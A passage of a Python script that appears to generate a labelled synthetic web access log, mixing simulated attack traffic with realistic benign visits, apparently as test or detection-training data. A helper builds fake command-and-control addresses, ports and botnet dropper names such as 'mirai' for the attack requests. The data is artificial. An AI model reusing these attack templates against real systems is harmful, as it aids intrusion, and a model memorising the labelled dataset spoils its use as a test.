            return 200, r.randint(1180, 1290)
        if norm == '/blog/wp-admin/admin-ajax.php':
            return 400, 1
        if norm in ('/blog/', '/blog') and q.startswith('author='):
            return 301, 0
        if norm in ('/blog/', '/blog'):
            return 200, r.randint(41200, 41900)
        if norm.startswith('/blog/wp-admin/'):
            return 302, 0
        if norm.endswith('readme.txt') and '/plugins/' in norm:
            return 404, r.randint(25100, 25600)
        return 404, r.randint(25100, 25600)
    if norm in SITE_PAGES and method in ('GET', 'HEAD'):
        return 200, SITE_PAGES[norm]
    if norm in SITE_PAGES and method == 'POST' and norm != '/contact/':
        return 405, 157
    return 404, 3871

# ------------------------------------------------------------------ main
def fmt(ip, t, method, target, st, sz, ref, ua):
    req = '%s %s HTTP/1.1' % (method, target)
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(req), st, sz, esc(ref), esc(ua))

def c2vals(r):
    return dict(ip='198.%d.%d.%d' % (r.randint(18, 19), r.randint(0, 255), r.randint(1, 254)),
                port=r.randint(30000, 60999), sh=r.choice(['tenda.sh', 'tplink.sh', 'lol.sh', 'x.sh']),
                bin=r.choice(['x', 'bot', 'sora', 'kys', 'lmao', 'mirai', 'hiddenbin']),
                rnd='%08x' % r.getrandbits(32))

def main():
    r = random.Random(SEED)
    used = set()
    def addr(net):
        while True:
            a = '%d.%d.%d.%d' % (net[0], net[1], net[2] + r.randint(0, 15), r.randint(1, 254))
            if a not in used:
                used.add(a)
                return a
    lines, labels, rows = [], [], []
    nburst = 0
    for e in E:
        for k in range(e['n']):
            ip = addr(ATTACK_NET)
            c = c2vals(r)
            reqs = e['fn'](r, c)
            if len(reqs) == 1 and r.random() < 0.02:
                reqs = [('GET', '/')] + reqs          # landing-page check before the exploit
            assert 1 <= len(reqs) <= 6, (e['tech'], len(reqs))
            nburst += len(reqs) > 1
            ua_default = UA[r.choice(e['ua'])]
            t = DAY + datetime.timedelta(seconds=r.randint(30, 86000))
            for j, q in enumerate(reqs):
                method, target = q[0], q[1]
                st = q[2] if len(q) > 2 and q[2] is not None else None
                ua = q[3] if len(q) > 3 and q[3] is not None else ua_default
                ref = q[4] if len(q) > 4 and q[4] is not None else e['ref']
                if j:
                    t += datetime.timedelta(seconds=r.randint(0, 3) if e['cat'] != 'credential-stuffing' else r.randint(1, 9))
                s2, sz = respond(r, method, target)
                st = st or s2
                lines.append((t, len(lines), fmt(ip, t, method, target, st, sz, ref, ua)))
                rows.append('\t'.join([ip, e['cat'], e['tech'], esc('%s %s HTTP/1.1' % (method, target)), SRC[e['src']]]))
            labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['tech']))
    lines.sort(key=lambda x: (x[0], x[1]))

    # ---------------------------------------------------------------- benign
    blines, blabels = [], []
    for kind, fn, count in BENIGN:
        for i in range(count):
            ip = addr(BENIGN_NET)
            ua, seq, gap = fn(r, i)
            t = DAY + datetime.timedelta(seconds=r.randint(300, 80000))
            for j, q in enumerate(seq):
                method, target, ref = q[0], q[1], q[2]
                if j:
                    asset = target.startswith(('/assets/', '/img/', '/blog/wp-content/', '/blog/wp-includes/', '/favicon'))
                    t += datetime.timedelta(seconds=gap(r) if not asset else r.randint(0, 1))
                if len(q) > 3:
                    st, sz = q[3], q[4]
                else:
                    st, sz = benign_respond(r, method, target)
                if st == 200 and target.startswith(('/assets/', '/img/')) and r.random() < 0.15:
                    st, sz = 304, 0
                blines.append((t, len(blines), fmt(ip, t, method, target, st, sz, ref, ua)))
            assert 2 <= len(seq) <= 14, (kind, len(seq))
            blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: (x[0], x[1]))

    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    def w(name, text):
        with open(os.path.join(OUT, name), 'w', newline='\n') as f:
            f.write(text)
    w('attacks.log', ''.join(l + '\n' for _, _, l in lines))
    w('attacks.labels', ''.join(l + '\n' for l in sorted(labels, key=key)))
    w('requests.tsv', 'ADDRESS\tCATEGORY\tTECHNIQUE\tREQUEST_LINE\tPUBLIC_SOURCE\n' +
      ''.join(l + '\n' for l in sorted(rows, key=key)))
    w('benign.log', ''.join(l + '\n' for _, _, l in blines))
    w('benign.labels', ''.join(l + '\n' for l in sorted(blabels, key=key)))
    print('attack sources %d (bursts %d), attack lines %d, benign sources %d, benign lines %d'
          % (len(labels), nburst, len(lines), len(blabels), len(blines)))

# ------------------------------------------------------------------ benign traffic
BROWSER = [
 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36',
 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36',
 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36',
 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0',
 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15',
 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0',
 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1',
 'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36',
 'Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0',
]
H = 'https://www.harborline-it.example'
POSTS = ['/blog/2026/01/rotating-api-keys-without-downtime/', '/blog/2025/12/why-we-retired-phpmyadmin/',
         '/blog/2025/11/backups-that-actually-restore/', '/blog/2026/02/printer-firmware-updates/',
         '/blog/2025/10/wordpress-login-hardening-checklist/', '/blog/2026/01/shell-scripts-for-small-offices/',
         '/blog/2025/09/what-is-in-a-dotenv-file/']
SEARCHES = ['opening+hours', 'managed+backup+pricing', 'wordpress+login+problem', 'printer+setup',
            'password+manager+for+teams', 'shell+script+backup', 'remote+support', 'firewall+rules+small+office',
            'how+to+find+my+ip+address', 'ransomware+recovery']

def gap_read(r):
    return r.randint(8, 90)

def page_assets(r, ref):
    a = [('GET', '/assets/css/site.css', ref), ('GET', '/assets/js/main.js', ref), ('GET', '/img/logo.svg', ref)]
    if r.random() < 0.5:
        a.append(('GET', '/img/hero.webp', ref))
    return a

def b_business(r, i):
    ref0 = r.choice(['https://www.google.com/', 'https://www.bing.com/', '-', 'https://duckduckgo.com/', 'https://www.linkedin.com/'])
    land = r.choice(['/', '/', '/services/', '/?utm_source=linkedin&utm_medium=social&utm_campaign=feb26'])
    seq = [('GET', land, ref0)]
    seq += page_assets(r, H + land)
    seq.append(('GET', '/favicon.ico', H + land))
    for p in r.sample([x for x in ['/about/', '/services/', '/contact/'] if x != land], r.randint(1, 2)):
        seq.append(('GET', p, H + land))
    if i % 3 == 0:
        seq.append(('GET', '/contact/', H + '/services/'))
        seq.append(('POST', '/contact/', H + '/contact/', 303, 0))
        seq.append(('GET', '/contact/thanks/', H + '/contact/', 200, 5210))
    return r.choice(BROWSER), seq[:14], gap_read

def b_search(r, i):
    seq = [('GET', '/', '-')] + page_assets(r, H + '/')[:2]
    for s in r.sample(SEARCHES, 2):
        seq.append(('GET', '/search?q=' + s, H + '/'))
    seq.append(('GET', r.choice(['/services/', '/contact/']), H + '/search?q=' + s))
    return r.choice(BROWSER), seq, gap_read

BLOG_ASSETS = ['/blog/wp-content/themes/harbor/style.css?ver=6.7.1', '/blog/wp-includes/js/jquery/jquery.min.js?ver=3.7.1',
               '/blog/wp-includes/css/dist/block-library/style.min.css?ver=6.7.1', '/blog/wp-content/themes/harbor/js/navigation.js?ver=1.4.2',
               '/blog/wp-includes/js/wp-emoji-release.min.js?ver=6.7.1']

def b_blog(r, i):
    post = r.choice(POSTS)
    ref0 = r.choice(['https://www.google.com/', 'https://news.ycombinator.com/', 'https://www.reddit.com/', '-', 'https://t.co/'])
    seq = [('GET', post + ('?fbclid=IwY2xjawH' + '%08x' % r.getrandbits(32) if r.random() < 0.2 else ''), ref0)]
    seq += [('GET', a, H + post) for a in r.sample(BLOG_ASSETS, 3)]
    seq.append(('GET', '/blog/wp-content/uploads/2026/01/cover-%d.jpg' % r.randint(1, 9), H + post, 200, r.randint(40000, 180000)))
    if i % 2 == 0:
        seq.append(('GET', '/blog/?s=' + r.choice(['backup', 'env+file', 'login', 'firmware', 'password']), H + post))
    if i % 3 == 0:
        seq.append(('POST', '/blog/wp-comments-post.php', H + post, 302, 0))
        seq.append(('GET', post + '#comment-%d' % r.randint(1200, 1900), H + post))
    seq.append(('GET', r.choice(POSTS), H + post))
    return r.choice(BROWSER), seq, gap_read

def b_owner(r, i):
    seq = [('GET', '/blog/wp-login.php', '-'), ('POST', '/blog/wp-login.php', H + '/blog/wp-login.php', 302, 0),
           ('GET', '/blog/wp-admin/', H + '/blog/wp-login.php', 200, 61230),
           ('POST', '/blog/wp-admin/admin-ajax.php', H + '/blog/wp-admin/', 200, 57),
           ('GET', '/blog/wp-admin/post.php?post=%d&action=edit' % (410 + i), H + '/blog/wp-admin/edit.php', 200, 88410),
           ('POST', '/blog/wp-json/wp/v2/posts/%d?_locale=user' % (410 + i), H + '/blog/wp-admin/post.php?post=%d&action=edit' % (410 + i), 200, 9120),
           ('GET', '/blog/wp-admin/edit.php', H + '/blog/wp-admin/', 200, 70310)]
    return BROWSER[i], seq, gap_read

CRAWLERS = [
 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
 'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.7559.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)',
 'DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)',
 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
]

def b_crawler(r, i):
    seq = [('GET', '/robots.txt', '-')]
    if i != 7:
        seq.append(('GET', '/sitemap.xml', '-'))
    pages = ['/', '/about/', '/services/', '/contact/', '/blog/', '/blog/feed/'] + POSTS
    for p in r.sample(pages, r.randint(2, 6)):
        seq.append(('GET', p, '-', 200, r.randint(9000, 42000)) if p.startswith('/blog/') else ('GET', p, '-'))
    if i == 7:
        seq = [('GET', r.choice(POSTS), '-', 200, r.randint(30000, 42000))]
        seq.append(('GET', '/blog/wp-content/uploads/2026/01/cover-3.jpg', '-', 200, 121400))
    return CRAWLERS[i], seq, lambda r: r.randint(20, 600)

MONITORS = ['Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
            'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
            'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
            'Uptime-Kuma/1.23.16',
            'Blackbox Exporter/0.25.0']

def b_monitor(r, i):
    method = 'HEAD' if i in (0, 3) else 'GET'
    path = '/' if i != 4 else '/blog/'
    seq = [(method, path, '-', 200, 0 if method == 'HEAD' else (14382 if path == '/' else r.randint(41200, 41900)))
           for _ in range(r.randint(6, 10))]
    return MONITORS[i], seq, lambda r: 300 if i < 2 else r.choice([60, 60, 61])

def b_feed(r, i):
    ua = ['Feedly/1.0 (+http://www.feedly.com/fetcher.html; 14 subscribers; )',
          'NetNewsWire (RSS Reader; https://netnewswire.com/)'][i]
    seq = [('GET', '/blog/feed/', '-', 200, r.randint(38000, 39000)) for _ in range(r.randint(3, 5))]
    return ua, seq, lambda r: r.randint(1800, 5400)

def benign_respond(r, method, target):
    path = target.split('?')[0].split('#')[0]
    if path in SITE_PAGES:
        return 200, SITE_PAGES[path]
    if path in SITE_ASSETS:
        return 200, SITE_ASSETS[path]
    if path.startswith('/blog/wp-content/') or path.startswith('/blog/wp-includes/'):
        return 200, r.randint(2400, 96000)
    if path.startswith('/blog/'):
        return 200, r.randint(38000, 46000)
    return 404, 3871

BENIGN = [
 ('browser-business-site', b_business, 11),
 ('browser-site-search', b_search, 2),
 ('browser-blog-reader', b_blog, 10),
 ('blog-owner-admin', b_owner, 2),
 ('crawler', b_crawler, 8),
 ('uptime-monitor', b_monitor, 5),
 ('feed-reader', b_feed, 2),
]

if __name__ == '__main__':
    main()
